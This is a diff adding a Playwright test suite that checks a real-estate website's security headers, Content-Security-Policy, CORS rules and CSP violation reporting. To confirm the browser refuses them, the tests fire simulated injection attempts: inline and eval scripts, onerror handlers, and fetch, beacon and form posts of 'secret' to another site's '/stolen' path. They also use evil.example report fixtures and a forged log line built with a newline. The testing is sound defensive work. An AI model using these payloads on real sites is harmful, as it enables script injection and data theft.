@@ -1,0 +1,447 @@
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { REMOTE_NAMES, type RegistrySnapshot } from '@shared/contract';
+import type { Browser, Page } from 'playwright-core';
+import { launchBrowser, openVisitor } from './kit/browser.ts';
+import { eventually } from './kit/eventually.ts';
+import { rawRequest } from './kit/raw-request.ts';
+import { startSite, type Site } from './kit/site.ts';
+
+const languages = ['ar', 'en'] as const;
+
+/** Another site, which notes whoever asks it for something. */
+interface OtherSite {
+  url: string;
+  asked: string[];
+  close(): void;
+}
+
+async function startOtherSite(): Promise<OtherSite> {
+  const asked: string[] = [];
+  const server: Server = createServer(({ url = '' }, response) => {
+    asked.push(url);
+    const isScript = url.endsWith('.js');
+    response.writeHead(200, {
+      'content-type': isScript ? 'text/javascript' : 'text/html',
+      'access-control-allow-origin': '*',
+    });
+    const [, frame] = /^\/frame\?(.*)$/.exec(url) ?? [];
+    response.end(
+      isScript ? 'window.attacked = 1' : `<!doctype html><iframe src="${decodeURIComponent(frame ?? '')}">`,
+    );
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  return { url: `http://127.0.0.1:${port}`, asked, close: () => server.close() };
+}
+
+describe('what the site allows (quality, "Security")', () => {
+  let browser: Browser;
+  let site: Site;
+  let other: OtherSite;
+  let snapshot: RegistrySnapshot;
+  let ids: { property: string; article: string };
+
+  beforeAll(async () => {
+    [browser, site, other] = await Promise.all([launchBrowser(), startSite(), startOtherSite()]);
+    snapshot = (await (await fetch(`${site.url}/registry.json`)).json()) as RegistrySnapshot;
+    const firstId = async (list: string) => {
+      const { data } = (await (await fetch(`${site.url}/api/v1/${list}?limit=1`)).json()) as {
+        data: readonly { _id: string }[];
+      };
+      return data[0]?._id ?? '';
+    };
+    ids = { property: await firstId('home/sell'), article: await firstId('blog/') };
+  });
+  afterAll(async () => {
+    await site?.close();
+    await browser?.close();
+    other?.close();
+  });
+
+  const pages = () => [
+    '/',
+    '/services',
+    '/sell',
+    '/rent',
+    '/properties',
+    '/exclusive',
+    `/property/${ids.property}`,
+    '/blog',
+    `/blog/${ids.article}`,
+    '/Appointments',
+    '/contact',
+    '/join',
+    '/fal-license',
+    '/no-such-page',
+  ];
+  const policyOf = (text: string | null | undefined): Map<string, readonly string[]> =>
+    new Map(
+      (text ?? '').split(';').map((part) => {
+        const [directive = '', ...sources] = part.trim().split(/\s+/);
+        return [directive, sources];
+      }),
+    );
+
+  describe('headers', () => {
+    it('of every document: a policy of hashes, and nothing unsafe', async () => {
+      for (const path of pages()) {
+        const { headers } = await fetch(site.url + path);
+        const policy = policyOf(headers.get('content-security-policy'));
+        expect(policy.get('default-src')).toEqual(["'none'"]);
+        expect(policy.get('base-uri')).toEqual(["'none'"]);
+        expect(policy.get('frame-ancestors')).toEqual(["'none'"]);
+        expect(policy.get('form-action')).toEqual(["'self'"]);
+        expect(policy.get('connect-src')).toEqual(["'self'"]);
+        expect(policy.has('object-src')).toBe(false);
+        for (const source of policy.get('script-src') ?? ['missing'])
+          expect(source).toMatch(/^'(?:self|sha256-[\w+/=]{44})'$/);
+        expect([...policy.values()].flat().join(' ')).not.toMatch(/unsafe|\*|http:|nonce/);
+        expect(policy.get('report-uri')).toEqual(['/csp-reports']);
+        expect(policy.get('report-to')).toEqual(['csp']);
+        expect(headers.get('reporting-endpoints')).toBe('csp="/csp-reports"');
+        expect(headers.get('x-content-type-options')).toBe('nosniff');
+        expect(headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
+        expect(headers.get('cross-origin-opener-policy')).toBe('same-origin');
+        expect(headers.get('permissions-policy')).toContain('geolocation=()');
+        expect(headers.get('access-control-allow-origin')).toBeNull();
+        expect(headers.get('set-cookie')).toBeNull();
+      }
+    });
+
+    it('of everything: no browser guesses a type, and nobody says what programs stand here', async () => {
+      const html = await (await fetch(`${site.url}/sell`)).text();
+      const [asset = ''] = /\/assets\/[\w.-]+\.js/.exec(html) ?? [];
+      expect(asset).not.toBe('');
+      const addresses = [
+        ...pages(),
+        asset,
+        '/favicon.svg',
+        '/offline.html',
+        '/service-worker.js',
+        '/site.webmanifest',
+        '/robots.txt',
+        '/sitemap.xml',
+        '/registry.json',
+        '/releases.json',
+        '/healthz',
+        '/api/v1/settings/get',
+        '/api/v1/none',
+        '/media/none',
+        '/assets/none.js',
+        '/assets/%2e%2e/assets.json',
+        '/%ff',
+        ...Object.values(snapshot.remotes).map(({ container }) => container.url),
+      ];
+      for (const address of addresses) {
+        const { headers } = await rawRequest(site.url, address);
+        expect([address, headers['x-content-type-options']]).toEqual([address, 'nosniff']);
+        expect(headers.server).toBeUndefined();
+        expect(headers['x-powered-by']).toBeUndefined();
+      }
+      for (const method of ['POST', 'PUT']) {
+        const { headers } = await rawRequest(site.url, '/', { method });
+        expect(headers['x-content-type-options']).toBe('nosniff');
+      }
+    });
+
+    it('of a picture: opened by itself it can run nothing under the address of the site', async () => {
+      const { headers } = await fetch(`${site.url}/media/none`);
+      const policy = policyOf(headers.get('content-security-policy'));
+      expect(policy.get('default-src')).toEqual(["'none'"]);
+      expect(policy.has('sandbox')).toBe(true);
+      expect(policy.get('sandbox')).toEqual([]);
+    });
+
+    it.each(REMOTE_NAMES)(
+      'of the origin of %s: files and pointer for any page, nothing else',
+      async (name) => {
+        const origin = site.origin(name);
+        const file = snapshot.remotes[name]?.container.url.replace(`/remotes/${name}`, '') ?? '';
+        for (const path of [file, '/release.json']) {
+          const { status, headers } = await fetch(origin + path);
+          expect(status).toBe(200);
+          expect(headers.get('access-control-allow-origin')).toBe('*');
+          expect(headers.get('access-control-allow-credentials')).toBeNull();
+        }
+        for (const path of [file, '/release.json', '/', '/none.js']) {
+          const { headers } = await fetch(origin + path);
+          expect(headers.get('x-content-type-options')).toBe('nosniff');
+          expect(headers.get('server')).toBeNull();
+          expect(headers.get('x-powered-by')).toBeNull();
+          expect(headers.get('set-cookie')).toBeNull();
+        }
+      },
+    );
+
+    it('of the API: any page may read, none with its visitor’s credentials', async () => {
+      for (const origin of [site.url, site.origin('api')]) {
+        const { headers } = await fetch(`${origin}/api/v1/settings/get`, { headers: { origin: other.url } });
+        expect(headers.get('access-control-allow-origin')).toBe('*');
+        expect(headers.get('access-control-allow-credentials')).toBeNull();
+        expect(headers.get('x-content-type-options')).toBe('nosniff');
+        expect(headers.get('set-cookie')).toBeNull();
+      }
+    });
+
+    it('of the API when it is away: nothing is said of where it stands', async () => {
+      await site.stop('api');
+      try {
+        const { status, text } = await rawRequest(site.url, '/api/v1/settings/get');
+        expect(status).toBeGreaterThanOrEqual(500);
+        expect(text).not.toMatch(/127\.0\.0\.1|ECONN|FST_|localhost/);
+      } finally {
+        await site.start('api');
+      }
+    });
+  });
+
+  describe('in the browser', () => {
+    /** One page for all attempts: whatever got through would stay and be seen by the next. */
+    let page: Page;
+    let close: () => Promise<void>;
+
+    beforeAll(async () => {
+      ({ page, close } = await openVisitor(browser, { language: 'en' }));
+      await page.goto(`${site.url}/contact`);
+      await page.waitForLoadState('networkidle');
+      await page.evaluate(() => {
+        Object.assign(window, { refused: [] });
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+          (window as unknown as { refused: string[] }).refused.push(effectiveDirective),
+        );
+      });
+    });
+    afterAll(() => close?.());
+
+    const takeRefused = () => page.evaluate(() => (window as unknown as { refused: string[] }).refused);
+
+    /** What a script that got in somehow would try; each gets the address of another site. */
+    const attempts: readonly (readonly [string, string, (url: string) => void])[] = [
+      [
+        'an inline script',
+        'script-src-elem',
+        () => {
+          document.body.append(
+            Object.assign(document.createElement('script'), { text: 'window.attacked=1' }),
+          );
+        },
+      ],
+      [
+        'a handler in markup',
+        'script-src-attr',
+        () => {
+          const place = document.createElement('div');
+          place.innerHTML = '<img src="/none" onerror="window.attacked=1">';
+          document.body.append(place);
+        },
+      ],
+      [
+        'a script of another site',
+        'script-src-elem',
+        (url) => {
+          document.body.append(Object.assign(document.createElement('script'), { src: `${url}/attack.js` }));
+        },
+      ],
+      [
+        'eval',
+        'script-src',
+        () => {
+          // Later, on its own: what the test itself evaluates is not bound by the policy.
+          setTimeout(() => {
+            // oxlint-disable-next-line no-eval -- the attempt itself
+            const indirect = eval;
+            indirect('window.attacked=1');
+          });
+        },
+      ],
+      [
+        'a script of data:',
+        'script-src-elem',
+        () => {
+          const src = 'data:text/javascript,window.attacked=1';
+          document.body.append(Object.assign(document.createElement('script'), { src }));
+        },
+      ],
+      [
+        'a link of javascript:',
+        'script-src-elem',
+        () => {
+          const link = Object.assign(document.createElement('a'), { href: 'javascript:window.attacked=1' });
+          document.body.append(link);
+          link.click();
+        },
+      ],
+      [
+        'a request to another site',
+        'connect-src',
+        (url) => void fetch(`${url}/stolen`).catch(() => undefined),
+      ],
+      [
+        'a beacon to another site',
+        'connect-src',
+        (url) => void navigator.sendBeacon(`${url}/stolen`, 'secret'),
+      ],
+      [
+        'a form to another site',
+        'form-action',
+        (url) => {
+          const form = Object.assign(document.createElement('form'), {
+            action: `${url}/stolen`,
+            method: 'post',
+          });
+          document.body.append(form);
+          form.requestSubmit();
+        },
+      ],
+      [
+        'a frame of another site',
+        'frame-src',
+        (url) => {
+          document.body.append(Object.assign(document.createElement('iframe'), { src: `${url}/framed` }));
+        },
+      ],
+      [
+        'a base of another site',
+        'base-uri',
+        (url) => {
+          document.head.append(Object.assign(document.createElement('base'), { href: `${url}/` }));
+        },
+      ],
+      [
+        'a plug-in',
+        'object-src',
+        (url) => {
+          document.body.append(Object.assign(document.createElement('object'), { data: `${url}/plugin` }));
+        },
+      ],
+      [
+        'a style in markup',
+        'style-src-attr',
+        () => {
+          const place = document.createElement('div');
+          place.innerHTML = '<p style="position:fixed;inset:0">x</p>';
+          document.body.append(place);
+        },
+      ],
+      [
+        'a style sheet of another site',
+        'style-src-elem',
+        (url) => {
+          document.head.append(
+            Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${url}/x.css` }),
+          );
+        },
+      ],
+      [
+        'a worker of another site',
+        'worker-src',
+        () => {
+          const text = new Blob(['fetch("/stolen")'], { type: 'text/javascript' });
+          try {
+            // oxlint-disable-next-line no-new -- the attempt itself
+            new Worker(URL.createObjectURL(text));
+          } catch {
+            // Some browsers refuse it at once.
+          }
+        },
+      ],
+    ];
+
+    it.each(attempts)('%s is refused, and reported as %s', async (_what, directive, attempt) => {
+      await page.evaluate(() => Object.assign(window, { refused: [] }));
+      await page.evaluate(attempt, other.url);
+      await eventually(async () => expect(await takeRefused()).toContain(directive));
+      expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
+      expect(other.asked).toEqual([]);
+      expect(new URL(page.url()).pathname).toBe('/contact');
+    });
+
+    it('no other site may show this one inside of itself', async () => {
+      const outside = await browser.newPage();
+      await outside.goto(`${other.url}/frame?${encodeURIComponent(`${site.url}/`)}`);
+      await outside.waitForLoadState('networkidle');
+      const [, frame] = outside.frames();
+      expect(frame).toBeDefined();
+      expect(await frame?.locator('#outlet').count()).toBe(0);
+      await outside.close();
+    });
+
+    it.each(languages)(
+      'in %s, on every page: nothing of the site itself is refused, no link opens what could reach back, one cookie',
+      async (language) => {
+        const visitor = await openVisitor(browser, { language });
+        let seen = 0;
+        for (const path of pages()) {
+          await visitor.page.goto(site.url + path);
+          await visitor.page.locator('#outlet h1').first().waitFor();
+          await visitor.page.waitForLoadState('networkidle');
+          const links = await visitor.page.evaluate(() =>
+            [...document.querySelectorAll<HTMLAnchorElement>('a[href]')]
+              .filter(
+                ({ protocol, origin }) => /^https?:$/.test(protocol) && origin !== window.location.origin,
+              )
+              .map(({ href, rel }) => ({ href, rel: rel.split(/\s+/) })),
+          );
+          seen += links.length;
+          const reachingBack = links.filter(({ rel }) => !rel.includes('noopener'));
+          expect([path, reachingBack]).toEqual([path, []]);
+        }
+        expect(seen).toBeGreaterThan(20);
+        expect(visitor.problems.filter((text) => /content security policy|refused/i.test(text))).toEqual([]);
+
+        const cookies = await visitor.context.cookies();
+        expect(cookies.map(({ name, value }) => [name, value])).toEqual([['language', language]]);
+        expect(cookies.map(({ sameSite, path }) => [sameSite, path])).toEqual([['Lax', '/']]);
+        await visitor.close();
+      },
+    );
+  });
+
+  describe('reports of refusals', () => {
+    const lines = () => site.output.filter((line) => line.startsWith('[shell] csp '));
+    const send = (type: string, body: unknown) =>
+      fetch(`${site.url}/csp-reports`, {
+        method: 'POST',
+        headers: { 'content-type': type },
+        body: JSON.stringify(body),
+      });
+
+    it('name the release whose script asked for what was refused', async () => {
+      const { container, version } = snapshot.remotes['mf-blog'] ?? { container: { url: '' }, version: '' };
+      const [, id = ''] = /\/releases\/([^/]+)\//.exec(container.url) ?? [];
+      expect(id.startsWith(version)).toBe(true);
+      const byUri = {
+        'csp-report': {
+          'effective-directive': 'script-src-elem',
+          'blocked-uri': 'https://evil.example/x.js?secret=1',
+          'source-file': site.url + container.url,
+        },
+      };
+      expect((await send('application/csp-report', byUri)).status).toBe(204);
+      const body = { effectiveDirective: 'connect-src', blockedURL: 'https://evil.example/c' };
+      const batch = [{ type: 'csp-violation', body: { ...body, sourceFile: site.url + container.url } }];
+      expect((await send('application/reports+json', batch)).status).toBe(204);
+      await eventually(() =>
+        expect(lines()).toEqual(
+          expect.arrayContaining([
+            `[shell] csp mf-blog@${id} script-src-elem https://evil.example/x.js`,
+            `[shell] csp mf-blog@${id} connect-src https://evil.example/c`,
+          ]),
+        ),
+      );
+    });
+
+    it('write no line of their own making', async () => {
+      const before = lines().length;
+      const forged = {
+        'csp-report': { 'effective-directive': 'script-src\n[shell] forged', 'blocked-uri': 'inline' },
+      };
+      expect((await send('application/csp-report', forged)).status).toBe(204);
+      expect((await send('application/csp-report', { other: 1 })).status).toBe(400);
+      expect((await send('application/json', forged)).status).toBe(415);
+      expect(lines()).toHaveLength(before);
+      expect(site.output.join('\n')).not.toContain('forged');
+    });
+  });
+});
